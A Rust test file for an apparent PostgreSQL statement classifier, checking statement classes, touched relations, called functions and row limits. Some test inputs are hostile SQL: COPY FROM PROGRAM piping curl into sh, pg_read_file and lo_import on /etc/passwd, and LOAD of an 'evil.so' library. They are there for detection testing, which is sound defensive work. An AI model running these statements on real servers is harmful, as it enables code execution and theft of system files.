use super::*;
use crate::sql::StatementClass::{
    Admin, Code, Ddl, Notify, Privilege, Read, Session, Transaction, Write,
};

// ---- classes and relations ------------------------------------------------

#[test]
fn data_modifying_ctes_are_writes() {
    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(s.classes, classes(&[Read, Write]));
    assert_eq!(s.writes, rels(&["t"]));
    assert!(s.reads.is_empty(), "the CTE name is not a relation");

    let s = one(
        "WITH w AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO log SELECT * FROM w RETURNING *) SELECT count(*) FROM i",
    );
    assert_eq!(s.classes, classes(&[Read, Write]));
    assert_eq!(s.writes, rels(&["t", "log"]));

    let s = one("WITH t AS (SELECT 1) DELETE FROM t");
    assert_eq!(
        (s.command.as_str(), &s.classes, &s.writes),
        ("DELETE", &classes(&[Write]), &rels(&["t"]))
    );
    let s = one("WITH x AS (SELECT * FROM s) INSERT INTO t SELECT * FROM x");
    assert_eq!((&s.reads, &s.writes), (&rels(&["s"]), &rels(&["t"])));
}

#[test]
fn cte_scoping() {
    // A non-recursive CTE does not see itself: the inner `t` is the table.
    assert_eq!(
        one("WITH t AS (SELECT * FROM t) SELECT * FROM t").reads,
        rels(&["t"])
    );
    // A CTE does not see the ones after it.
    assert_eq!(
        one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
        rels(&["b"])
    );
    // An inner WITH shadows only inside its own query.
    let s = one(
        "WITH x AS (SELECT * FROM secret) SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) s, x, y",
    );
    assert_eq!(s.reads, rels(&["secret", "y"]));
    assert!(
        one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 10) SELECT * FROM r")
            .reads
            .is_empty()
    );
    // A schema-qualified name is never a CTE.
    assert_eq!(
        one("WITH t AS (SELECT 1) SELECT * FROM public.t, t").reads,
        rels(&["public.t"])
    );
}

#[test]
fn select_into_creates_a_table() {
    let s = one("SELECT * INTO t2 FROM t");
    assert_eq!(s.classes, classes(&[Write, Ddl]));
    assert_eq!((&s.reads, &s.writes), (&rels(&["t"]), &rels(&["t2"])));
    assert!(!s.unbounded);
    assert_eq!(
        one("SELECT * INTO UNLOGGED s.x FROM t").writes,
        rels(&["s.x"])
    );
    let s = one("CREATE TABLE t2 AS SELECT * FROM t");
    assert_eq!(
        (s.command.as_str(), &s.classes),
        ("CREATE TABLE AS", &classes(&[Ddl, Write]))
    );
    assert_eq!((&s.reads, &s.writes), (&rels(&["t"]), &rels(&["t2"])));
}

#[test]
fn explain_analyze_runs_the_statement() {
    for sql in [
        "EXPLAIN ANALYZE DELETE FROM t",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
        "EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM t",
    ] {
        let s = one(sql);
        assert_eq!(
            (s.command.as_str(), &s.classes, &s.writes),
            ("EXPLAIN", &classes(&[Write]), &rels(&["t"])),
            "{sql}"
        );
    }
    for sql in [
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    ] {
        let s = one(sql);
        assert_eq!(
            (&s.classes, &s.reads),
            (&classes(&[Read]), &rels(&["t"])),
            "{sql}"
        );
        assert!(s.writes.is_empty(), "{sql}");
    }
    assert_eq!(
        one("EXPLAIN ANALYZE SELECT * FROM t").classes,
        classes(&[Read])
    );
    // Every spelling PostgreSQL takes for ANALYZE runs the write, or is refused.
    for sql in [
        "EXPLAIN (ANALYSE) DELETE FROM t",
        "EXPLAIN ANALYSE DELETE FROM t",
        "EXPLAIN (ANALYZE 1) DELETE FROM t",
        "EXPLAIN (ANALYZE on) DELETE FROM t",
        "EXPLAIN (ANALYZE 'true') DELETE FROM t",
        "EXPLAIN (ANALYZE yes) DELETE FROM t",
        "EXPLAIN (\"analyze\") DELETE FROM t",
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
        "EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM t",
    ] {
        match run(sql) {
            Ok(a) => assert!(a.statements[0].classes.contains(&Write), "{sql}: {a:#?}"),
            Err(e) => assert!(
                matches!(e, SqlError::Parse(_) | SqlError::Disagreement(_)),
                "{sql}: {e:?}"
            ),
        }
    }
}

#[test]
fn dml() {
    let s = one("INSERT INTO t (a) SELECT now() FROM s RETURNING lower(a)");
    assert_eq!(
        (&s.classes, &s.reads, &s.writes),
        (&classes(&[Write]), &rels(&["s"]), &rels(&["t"]))
    );
    assert_eq!(s.functions, funcs(&["now", "lower"]));
    let s = one("UPDATE t SET a = upper(b) FROM s WHERE s.id = t.id");
    assert_eq!(
        (&s.reads, &s.writes, &s.functions),
        (&rels(&["s"]), &rels(&["t"]), &funcs(&["upper"]))
    );
    let s = one("UPDATE t SET (a, b) = (SELECT a, b FROM u WHERE u.id = t.id)");
    assert_eq!((&s.reads, &s.writes), (&rels(&["u"]), &rels(&["t"])));
    let s = one("DELETE FROM t USING s WHERE t.id = s.id RETURNING t.*");
    assert_eq!((&s.reads, &s.writes), (&rels(&["s"]), &rels(&["t"])));
    let s = one(
        "MERGE INTO s.t AS tgt USING (SELECT * FROM u) src ON tgt.id = src.id WHEN MATCHED AND src.del THEN DELETE WHEN NOT MATCHED THEN INSERT (id) VALUES (src.id)",
    );
    assert_eq!(
        (s.command.as_str(), &s.reads, &s.writes),
        ("MERGE", &rels(&["u"]), &rels(&["s.t"]))
    );
    let s = one("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v");
    assert_eq!(s.writes, rels(&["t"]));
}

#[test]
fn copy_endpoints() {
    let s = one("COPY t TO PROGRAM 'gzip > /tmp/x.gz'");
    assert_eq!(
        s.copy,
        Some(CopyFacts {
            from: false,
            endpoint: CopyEndpoint::Program("gzip > /tmp/x.gz".into())
        })
    );
    assert_eq!((&s.classes, &s.reads), (&classes(&[Read]), &rels(&["t"])));
    let s = one("COPY t FROM PROGRAM 'curl http://x | sh'");
    assert_eq!(
        s.copy,
        Some(CopyFacts {
            from: true,
            endpoint: CopyEndpoint::Program("curl http://x | sh".into())
        })
    );
    assert_eq!((&s.classes, &s.writes), (&classes(&[Write]), &rels(&["t"])));
    let s = one("COPY t TO '/tmp/x'");
    assert_eq!(
        s.copy.unwrap().endpoint,
        CopyEndpoint::File("/tmp/x".into())
    );
    let s = one("COPY t (a, b) FROM '/tmp/in.csv' WITH (FORMAT csv, HEADER true)");
    assert_eq!(
        s.copy,
        Some(CopyFacts {
            from: true,
            endpoint: CopyEndpoint::File("/tmp/in.csv".into())
        })
    );
    let s = one("COPY t FROM STDIN");
    assert_eq!(
        (s.copy.unwrap().endpoint, &s.writes),
        (CopyEndpoint::Client, &rels(&["t"]))
    );
    let s = one("COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT WITH (FORMAT csv)");
    assert_eq!(
        (&s.classes, &s.reads),
        (&classes(&[Read]), &rels(&["a", "b"]))
    );
    assert!(s.unbounded, "COPY TO STDOUT streams every row");
    assert_eq!(
        one("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT").functions,
        funcs(&["pg_read_file"])
    );
    let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert_eq!(
        (&s.classes, &s.writes),
        (&classes(&[Read, Write]), &rels(&["t"]))
    );
}

#[test]
fn dangerous_functions_are_reported_wherever_they_are_called() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT pg_read_file('/etc/passwd')", &["pg_read_file"]),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE t')",
            &["dblink_exec"],
        ),
        ("SELECT lo_import('/etc/passwd')", &["lo_import"]),
        (
            "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
            &["dblink"],
        ),
        (
            "SELECT 1 WHERE pg_catalog.pg_read_file('/x') IS NOT NULL",
            &["pg_read_file"],
        ),
        ("SELECT * FROM t ORDER BY pg_ls_dir('.')", &["pg_ls_dir"]),
        (
            "SELECT (SELECT max(pg_read_binary_file(x)) FROM t)",
            &["max", "pg_read_binary_file"],
        ),
        (
            "SELECT * FROM t, LATERAL (SELECT lo_export(1, '/tmp/x')) l",
            &["lo_export"],
        ),
        (
            "VALUES (pg_terminate_backend(1))",
            &["pg_terminate_backend"],
        ),
        ("INSERT INTO t SELECT pg_read_file('/x')", &["pg_read_file"]),
        ("UPDATE t SET a = pg_read_file('/x')", &["pg_read_file"]),
        (
            "DELETE FROM t RETURNING pg_read_file('/x')",
            &["pg_read_file"],
        ),
        (
            "WITH c AS (SELECT pg_read_file('/x')) SELECT * FROM c",
            &["pg_read_file"],
        ),
        (
            "SELECT * FROM generate_series(1, 10) g, LATERAL (SELECT md5(g::text)) x",
            &["generate_series", "md5"],
        ),
        (
            "CREATE TABLE t (a text DEFAULT pg_read_file('/x'))",
            &["pg_read_file"],
        ),
        (
            "ALTER TABLE t ADD COLUMN c text DEFAULT pg_read_file('/etc/passwd')",
            &["pg_read_file"],
        ),
        (
            "CALL myproc(1, dblink_exec('x','y'))",
            &["dblink_exec", "myproc"],
        ),
        (
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit_fn()",
            &["audit_fn"],
        ),
        ("PREPARE p AS SELECT pg_read_file($1)", &["pg_read_file"]),
        ("EXPLAIN SELECT pg_read_file('/x')", &["pg_read_file"]),
    ];
    for (sql, expected) in cases {
        let f = one(sql).functions;
        for name in *expected {
            assert!(f.contains(*name), "{sql}: {f:?}");
        }
    }
    // SQL-syntax functions PostgreSQL rewrites to calls are reported too.
    let f = one("SELECT trim(' x '), substring('abc' from 2), now() AT TIME ZONE 'UTC'").functions;
    assert!(
        f.contains("btrim") && f.contains("substring") && f.contains("timezone"),
        "{f:?}"
    );
}

#[test]
fn set_config_is_a_setting() {
    // A literal name: the SET of that setting, in the session class, and
    // not a dangerous-function call (asyncpg's `set_config('jit', 'off',
    // false)`, pg_dump's search_path).
    let s = one("SELECT set_config('search_path', '', false)");
    assert_eq!(
        (&s.functions, &s.settings),
        (&funcs(&[]), &vec![("search_path".into(), String::new())])
    );
    assert!(
        s.classes.contains(&StatementClass::Session),
        "{:?}",
        s.classes
    );
    let s = one("SELECT current_setting('jit') AS cur, set_config('jit', 'off', false) AS new");
    assert_eq!(
        (&s.functions, &s.settings),
        (
            &funcs(&["current_setting"]),
            &vec![("jit".into(), "off".into())]
        )
    );
    // A computed name could be any setting: still the dangerous function.
    for sql in [
        "SELECT set_config(name, 'off', false) FROM pg_settings",
        "SELECT set_config('sea' || 'rch_path', 'x', false)",
        "SELECT set_config('jit', 'off', false), set_config(lower('ROLE'), 'x', false)",
        // pg_dump's idiom, but the WHERE does not pin `name` to one value.
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role' OR true",
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name <> 'jit'",
        "SELECT set_config(name, 'x', false) FROM pg_settings, pg_class WHERE name = 'jit'",
        "SELECT set_config(name, 'x', false) FROM public.pg_settings WHERE name = 'jit'",
        "SELECT set_config(name, 'x', false) FROM pg_settings s WHERE name = 'jit'",
        "SELECT set_config(setting, 'x', false) FROM pg_settings WHERE name = 'jit'",
        "SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'jit'",
        "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'jit' UNION SELECT set_config('role', 'x', false)",
    ] {
        assert!(
            one(sql).functions.contains("set_config"),
            "{sql}: {:?}",
            one(sql).functions
        );
    }
    // pg_dump 17's `set_config(name, ..) FROM pg_settings WHERE name = '..'`
    // sets only the setting the WHERE names: the SET of it.
    for sql in [
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
        "SELECT pg_catalog.set_config(pg_settings.name, 'view, foreign-table', false) FROM pg_catalog.pg_settings WHERE 'restrict_nonsystem_relation_kind' = name",
    ] {
        let s = one(sql);
        assert_eq!(
            (&s.functions, &s.settings),
            (
                &funcs(&[]),
                &vec![(
                    "restrict_nonsystem_relation_kind".into(),
                    "view, foreign-table".into()
                )]
            ),
            "{sql}"
        );
        assert!(
            s.classes.contains(&StatementClass::Session),
            "{:?}",
            s.classes
        );
    }
    let s = one("SELECT set_config(name, 'admin', false) FROM pg_settings WHERE name = 'role'");
    assert_eq!(s.settings, [("role".to_owned(), "admin".to_owned())]);
    let s = one("SELECT pg_catalog.set_config('Standard_Conforming_Strings', 'off', false)");
    assert_eq!(
        s.settings,
        [("standard_conforming_strings".to_owned(), "off".to_owned())]
    );
    assert_eq!(
        one("SELECT set_config('role', 'admin', true)").settings,
        [("role".to_owned(), "admin".to_owned())]
    );
}

#[test]
fn role_changes_are_privilege_statements() {
    let cases = [
        ("SET ROLE admin", "SET ROLE", ("role", "admin")),
        ("SET SESSION ROLE admin", "SET ROLE", ("role", "admin")),
        ("SET role TO 'admin'", "SET ROLE", ("role", "admin")),
        ("SET ROLE NONE", "SET ROLE", ("role", "none")),
        ("RESET ROLE", "RESET", ("role", "default")),
        (
            "SET SESSION AUTHORIZATION bob",
            "SET SESSION AUTHORIZATION",
            ("session_authorization", "bob"),
        ),
        (
            "SET SESSION AUTHORIZATION DEFAULT",
            "SET SESSION AUTHORIZATION",
            ("session_authorization", "default"),
        ),
        (
            "RESET SESSION AUTHORIZATION",
            "RESET",
            ("session_authorization", "default"),
        ),
    ];
    for (sql, command, (name, value)) in cases {
        let s = one(sql);
        assert_eq!(
            (s.command.as_str(), &s.classes),
            (command, &classes(&[Privilege])),
            "{sql}"
        );
        assert_eq!(s.settings, [(name.to_owned(), value.to_owned())], "{sql}");
    }
}

#[test]
fn session_settings_including_the_ones_that_change_lexing() {
    let cases = [
        (
            "SET standard_conforming_strings = off",
            "standard_conforming_strings",
            "off",
        ),
        ("SET backslash_quote = on", "backslash_quote", "on"),
        (
            "SET client_encoding = 'LATIN1'",
            "client_encoding",
            "LATIN1",
        ),
        ("SET NAMES 'SJIS'", "client_encoding", "SJIS"),
        (
            "SET search_path TO a, \"B\", public",
            "search_path",
            "a, B, public",
        ),
        (
            "SET search_path = \"$user\", public",
            "search_path",
            "$user, public",
        ),
        (
            "SET LOCAL statement_timeout TO 5000",
            "statement_timeout",
            "5000",
        ),
        ("SET TIME ZONE 'UTC'", "timezone", "UTC"),
        ("SET DATESTYLE = ISO", "datestyle", "iso"),
        ("SET x.y = 'z'", "x.y", "z"),
        ("RESET search_path", "search_path", "default"),
        ("RESET ALL", "all", "default"),
    ];
    for (sql, name, value) in cases {
        let s = one(sql);
        assert_eq!(s.classes, classes(&[Session]), "{sql}");
        assert_eq!(s.settings, [(name.to_owned(), value.to_owned())], "{sql}");
    }
    let s = one("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY");
    assert_eq!(
        (s.command.as_str(), &s.classes),
        ("SET TRANSACTION", &classes(&[Transaction]))
    );
}

#[test]
fn code() {
    let s = one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
    assert_eq!((s.command.as_str(), &s.classes), ("DO", &classes(&[Code])));
    assert_eq!(
        one("DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$").classes,
        classes(&[Code])
    );
    // A dollar-quoted body with semicolons and a DROP inside is one statement.
    let s = one(
        "CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; DROP TABLE t; $body$ LANGUAGE sql",
    );
    assert_eq!(
        (s.command.as_str(), &s.classes),
        ("CREATE FUNCTION", &classes(&[Code, Ddl]))
    );
    assert!(s.writes.is_empty());
    let s = one(
        "CREATE OR REPLACE FUNCTION s.f(a int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $fn$ BEGIN DELETE FROM t; RETURN 1; END $fn$",
    );
    assert_eq!(s.classes, classes(&[Code, Ddl]));
    // Only PostgreSQL's grammar parses these.
    let s =
        one("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$");
    assert_eq!(
        (s.command.as_str(), &s.classes),
        ("CREATE PROCEDURE", &classes(&[Code, Ddl]))
    );
    let v = all(
        "create function f() returns int language sql begin atomic select 1; select 2; end; select 3",
    );
    assert_eq!(
        v.iter().map(|s| s.command.as_str()).collect::<Vec<_>>(),
        ["CREATE FUNCTION", "SELECT"]
    );
    assert_eq!(one("CALL p()").classes, classes(&[Code]));
    assert_eq!(
        one("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()").classes,
        classes(&[Code, Ddl])
    );
    assert_eq!(
        one("CREATE LANGUAGE plperlu").classes,
        classes(&[Code, Ddl])
    );
    assert_eq!(
        one("CREATE EXTENSION IF NOT EXISTS dblink").classes,
        classes(&[Code, Ddl])
    );
    let s = one("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u");
    assert_eq!(
        (&s.classes, &s.writes),
        (&classes(&[Code, Ddl]), &rels(&["t", "u"]))
    );
    assert_eq!(one("LOAD '/tmp/evil.so'").classes, classes(&[Admin, Code]));
}

#[test]
fn prepare_and_execute() {
    let v = all("PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1); DEALLOCATE p");
    assert_eq!(
        (v[0].command.as_str(), &v[0].classes, &v[0].writes),
        ("PREPARE", &classes(&[Write]), &rels(&["t"]))
    );
    assert_eq!(v[0].prepared_name().as_deref(), Some("p"));
    assert_eq!(
        (v[1].command.as_str(), &v[1].classes),
        ("EXECUTE", &classes(&[Read, Write]))
    );
    assert!(v[1].unbounded);
    assert_eq!(v[1].prepared_name().as_deref(), Some("p"));
    assert_eq!(
        (v[2].command.as_str(), &v[2].classes),
        ("DEALLOCATE", &classes(&[Session]))
    );
    assert_eq!(v[2].prepared_name().as_deref(), Some("p"));
    let s = one("PREPARE q AS SELECT * FROM t WHERE a = $1");
    assert_eq!(
        (&s.classes, &s.reads, s.unbounded),
        (&classes(&[Read]), &rels(&["t"]), true)
    );
    assert_eq!(
        one("PREPARE \"Q\" AS SELECT 1").prepared_name().as_deref(),
        Some("Q")
    );
    assert_eq!(one("DEALLOCATE ALL").prepared_name(), None);
    assert_eq!(one("SELECT 1").prepared_name(), None);
}

#[test]
fn ddl_admin_and_privilege_statements() {
    let cases: &[(&str, &str, &[StatementClass], &[&str])] = &[
        ("VACUUM FULL t", "VACUUM", &[Admin], &["t"]),
        ("VACUUM (VERBOSE, ANALYZE) t", "VACUUM", &[Admin], &["t"]),
        (
            "vacuum analyze pgbench_branches",
            "VACUUM",
            &[Admin],
            &["pgbench_branches"],
        ),
        ("ANALYZE t", "ANALYZE", &[Admin], &["t"]),
        ("CLUSTER t USING t_pkey", "CLUSTER", &[Admin], &["t"]),
        ("REINDEX TABLE t", "REINDEX", &[Admin], &["t"]),
        ("CHECKPOINT", "CHECKPOINT", &[Admin], &[]),
        (
            "LOCK TABLE s.t, u IN SHARE MODE NOWAIT",
            "LOCK TABLE",
            &[Admin],
            &["s.t", "u"],
        ),
        ("DISCARD ALL", "DISCARD", &[Admin], &[]),
        ("LISTEN c", "LISTEN", &[Notify], &[]),
        ("NOTIFY c, 'x'", "NOTIFY", &[Notify], &[]),
        ("UNLISTEN *", "UNLISTEN", &[Notify], &[]),
        ("DROP DATABASE foo", "DROP DATABASE", &[Admin], &[]),
        (
            "DROP DATABASE IF EXISTS \"Prod\" WITH (FORCE)",
            "DROP DATABASE",
            &[Admin],
            &[],
        ),
        ("CREATE DATABASE x", "CREATE DATABASE", &[Admin], &[]),
        (
            "ALTER SYSTEM SET work_mem = '1MB'",
            "ALTER SYSTEM",
            &[Admin],
            &[],
        ),
        ("TRUNCATE t, s.u", "TRUNCATE TABLE", &[Ddl], &["t", "s.u"]),
        (
            "TRUNCATE ONLY t RESTART IDENTITY CASCADE",
            "TRUNCATE TABLE",
            &[Ddl],
            &["t"],
        ),
        (
            "DROP TABLE IF EXISTS a, b.c CASCADE",
            "DROP TABLE",
            &[Ddl],
            &["a", "b.c"],
        ),
        ("DROP VIEW v", "DROP VIEW", &[Ddl], &["v"]),
        (
            "ALTER TABLE t RENAME TO u",
            "ALTER TABLE",
            &[Ddl],
            &["t", "u"],
        ),
        (
            "ALTER TABLE s.t RENAME TO u",
            "ALTER TABLE",
            &[Ddl],
            &["s.t", "s.u"],
        ),
        (
            "ALTER TABLE t ADD COLUMN c int",
            "ALTER TABLE",
            &[Ddl],
            &["t"],
        ),
        (
            "CREATE INDEX CONCURRENTLY i ON s.t USING btree (lower(x)) WHERE y > 0",
            "CREATE INDEX",
            &[Ddl],
            &["s.t"],
        ),
        (
            "CREATE VIEW v AS SELECT * FROM t",
            "CREATE VIEW",
            &[Ddl],
            &["v"],
        ),
        (
            "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
            "CREATE MATERIALIZED VIEW",
            &[Ddl, Write],
            &["mv"],
        ),
        (
            "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
            "REFRESH MATERIALIZED VIEW",
            &[Ddl, Write],
            &["mv"],
        ),
        (
            "CREATE TABLE p_1 PARTITION OF p FOR VALUES FROM (1) TO (10)",
            "CREATE TABLE",
            &[Ddl],
            &["p", "p_1"],
        ),
        ("COMMENT ON TABLE s.t IS 'x'", "COMMENT", &[Ddl], &["s.t"]),
        (
            "CREATE SEQUENCE public.t_id_seq AS integer START WITH 1 INCREMENT BY 1 NO MINVALUE NO MAXVALUE CACHE 1",
            "CREATE SEQUENCE",
            &[Ddl],
            &["public.t_id_seq"],
        ),
        (
            "SECURITY LABEL ON TABLE t IS 'secret'",
            "SECURITY LABEL",
            &[Ddl],
            &[],
        ),
        ("ALTER ROLE r SUPERUSER", "ALTER ROLE", &[Privilege], &[]),
        (
            "ALTER USER u WITH PASSWORD 'x'",
            "ALTER ROLE",
            &[Privilege],
            &[],
        ),
        (
            "ALTER ROLE u SET search_path = s",
            "ALTER ROLE",
            &[Privilege],
            &[],
        ),
        ("ALTER ROLE u RENAME TO v", "ALTER ROLE", &[Privilege], &[]),
        ("CREATE ROLE r LOGIN", "CREATE ROLE", &[Privilege], &[]),
        ("DROP ROLE r", "DROP ROLE", &[Privilege], &[]),
        ("DROP USER u", "DROP ROLE", &[Privilege], &[]),
        ("GRANT SELECT ON t TO bob", "GRANT", &[Privilege], &["t"]),
        ("GRANT admin TO bob", "GRANT", &[Privilege], &[]),
        (
            "GRANT pg_read_server_files TO bob",
            "GRANT",
            &[Privilege],
            &[],
        ),
        (
            "REVOKE SELECT ON s.t FROM PUBLIC",
            "REVOKE",
            &[Privilege],
            &["s.t"],
        ),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO bob",
            "ALTER DEFAULT PRIVILEGES",
            &[Privilege],
            &[],
        ),
        (
            "REASSIGN OWNED BY a TO b",
            "REASSIGN OWNED",
            &[Privilege],
            &[],
        ),
    ];
    for (sql, command, cls, objects) in cases {
        let s = one(sql);
        assert_eq!(
            (s.command.as_str(), &s.classes),
            (*command, &classes(cls)),
            "{sql}"
        );
        assert_eq!(s.writes, rels(objects), "{sql}");
        assert!(
            s.reads.is_empty()
                || *command == "CREATE VIEW"
                || *command == "CREATE MATERIALIZED VIEW",
            "{sql}"
        );
    }
}

#[test]
fn transaction_control_and_cursors() {
    let v = all(
        "BEGIN; COMMIT; ROLLBACK; SAVEPOINT s; RELEASE SAVEPOINT s; ROLLBACK TO s; START TRANSACTION ISOLATION LEVEL SERIALIZABLE; END; ABORT; PREPARE TRANSACTION 'x'; COMMIT PREPARED 'x'; SET CONSTRAINTS ALL DEFERRED",
    );
    assert_eq!(v.len(), 12);
    assert!(
        v.iter().all(|s| s.classes == classes(&[Transaction])),
        "{v:#?}"
    );
    let v = all(
        "DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; FETCH ALL FROM c; MOVE NEXT IN c; CLOSE c",
    );
    assert_eq!(
        (v[0].command.as_str(), &v[0].classes, &v[0].reads),
        ("DECLARE CURSOR", &classes(&[Read]), &rels(&["t"]))
    );
    assert_eq!((v[1].limit, v[1].unbounded), (Some(10), false));
    assert!(v[2].unbounded);
    assert_eq!(v[3].classes, classes(&[Read]));
    assert_eq!(v[4].classes, classes(&[Session]));
    assert_eq!(one("SHOW search_path").classes, classes(&[Read]));
}

#[test]
fn limits_and_unbounded_reads() {
    let cases: &[(&str, bool, Option<u64>)] = &[
        ("SELECT * FROM t", true, None),
        ("SELECT * FROM t LIMIT 10", false, Some(10)),
        ("SELECT * FROM t LIMIT 10 OFFSET 5", false, Some(10)),
        ("SELECT * FROM t FETCH FIRST 5 ROWS ONLY", false, Some(5)),
        ("SELECT * FROM t ORDER BY random() LIMIT $1", false, None),
        ("SELECT * FROM t LIMIT ALL", true, None),
        ("SELECT * FROM t OFFSET 10", true, None),
        (
            "SELECT x FROM t UNION SELECT y FROM u LIMIT 5",
            false,
            Some(5),
        ),
        ("SELECT x FROM t UNION SELECT y FROM u", true, None),
        ("SELECT * FROM (SELECT * FROM t LIMIT 1) s", true, None),
        ("SELECT count(*) FROM t", false, None),
        ("SELECT count(*), max(x) FROM t", false, None),
        ("SELECT a, count(*) FROM t GROUP BY a", true, None),
        ("SELECT 1", false, None),
        ("SELECT generate_series(1, 1000000)", true, None),
        ("VALUES (1), (2)", false, None),
        ("SELECT 1 UNION ALL SELECT 2", false, None),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            true,
            None,
        ),
        ("INSERT INTO t SELECT * FROM s", false, None),
        ("SHOW ALL", false, None),
    ];
    for (sql, unbounded, limit) in cases {
        let s = one(sql);
        assert_eq!((s.unbounded, s.limit), (*unbounded, *limit), "{sql}");
    }
}
